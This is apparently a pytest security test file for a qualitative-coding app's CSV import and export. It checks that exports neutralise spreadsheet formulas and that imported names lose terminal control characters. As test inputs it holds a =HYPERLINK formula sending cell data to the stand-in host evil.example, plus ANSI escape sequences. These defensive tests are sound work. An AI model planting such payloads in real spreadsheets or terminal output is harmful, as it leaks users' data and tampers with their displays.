"""Formula injection through a colleague's codebook CSV: theme names such as =HYPERLINK(…) merged, then
written to every CSV Marginalia makes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from gui.analysis.overview import gather, table
from gui.export import export, import_annotations
from gui.store import Store, StoreError
from tests.reliability.conftest import DOC

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


@pytest.fixture
def hostile(store: Store, tmp_path: Path) -> Store:
    book = tmp_path / "taguette.csv"  # Taguette's codebook export, and our own "'=" read back as "="
    book.write_text(f'tag,description\n"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(1+1)\n"\'+1+2",x\n',
                    encoding="utf-8")
    import_annotations(store, book)
    store.tag(DOC, ["para_5"], FORMULA)
    store.tag(DOC, ["para_5"], "+1+2")
    store.tag(DOC, ["para_5"], "poc")
    return store


@pytest.mark.parametrize("kind", ["matrix", "cooccurrence", "timeline"])
def test_no_overview_table_starts_a_cell_with_a_formula(hostile: Store, kind: str) -> None:
    written = cells(table(gather(hostile), kind))  # the header rows named the themes as they are
    assert any(FORMULA in c for c in written) or kind == "matrix"
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("fmt", ["csv", "codebook-csv"])
def test_no_export_starts_a_cell_with_a_formula(hostile: Store, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"out-{fmt}.csv"
    export(hostile, fmt, out)
    written = cells(out.read_bytes())
    assert any(FORMULA in c for c in written)
    assert not [c for c in written if c[:1] in ("=", "+", "-", "@")]


def test_control_characters_in_a_colleagues_theme_names_never_reach_the_terminal(store: Store,
                                                                               tmp_path: Path) -> None:
    book = tmp_path / "controls.csv"
    book.write_bytes(b"tag\nA\x00B\n\x1b[2J\x1b]0;owned\x07Evil\n")
    import_annotations(store, book)
    names = [t.name for t in store.themes()]
    assert "A B" in names and "[2J ]0;owned Evil" in names
    assert not [n for n in names if any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in n)]
    colleague = tmp_path / "colleague.jsonld"  # a colleague's coder name, merged, is one clean line too
    colleague.write_text(json.dumps({"type": "Annotation", "creator": {"name": "\x1b[31mkim\x1b[0m"},
                                     "body": [{"type": "TextualBody", "value": "POC", "purpose": "tagging"}],
                                     "target": {"source": f"urn:marginalia:document:{DOC}", "selector": [
                                         {"type": "TextQuoteSelector",
                                          "exact": "The Working Group discussed the following themes:"}]}}),
                         encoding="utf-8")
    assert len(import_annotations(store, colleague).merged) == 1
    assert {a.coder for a in store.annotations()} == {"[31mkim [0m"}


def test_a_theme_name_of_100000_characters_is_refused_in_one_line(store: Store, tmp_path: Path) -> None:
    book = tmp_path / "long.csv"
    book.write_text("tag\nShort\n" + "y" * 100_000 + "\n", encoding="utf-8")
    before = len(store.themes())
    with pytest.raises(StoreError, match="up to 300 characters") as error:
        import_annotations(store, book)
    assert len(str(error.value)) < 200 and len(store.themes()) == before
    with pytest.raises(StoreError, match="up to 300 characters"):
        store.add_theme("z" * 301)
    with pytest.raises(StoreError, match="up to 300 characters"):
        store.update_theme("poc", name="z" * 301)


def test_a_theme_named_with_a_leading_apostrophe_comes_back_as_it_was(store: Store, tmp_path: Path) -> None:
    names = ["'=SUM(1)", "''+1", "=x", "'plain"]  # "'=SUM(1)" was written as is and read back as "=SUM(1)"
    for name in names:
        store.add_theme(name)
    out = tmp_path / "book.csv"
    export(store, "codebook-csv", out)
    assert not [c for c in cells(out.read_bytes()) if c[:1] in ("=", "+", "-", "@")]
    with Store(tmp_path / "fresh.db", import_corpus=False) as fresh:
        import_annotations(fresh, out)
        assert {t.name for t in fresh.themes()} >= set(names)
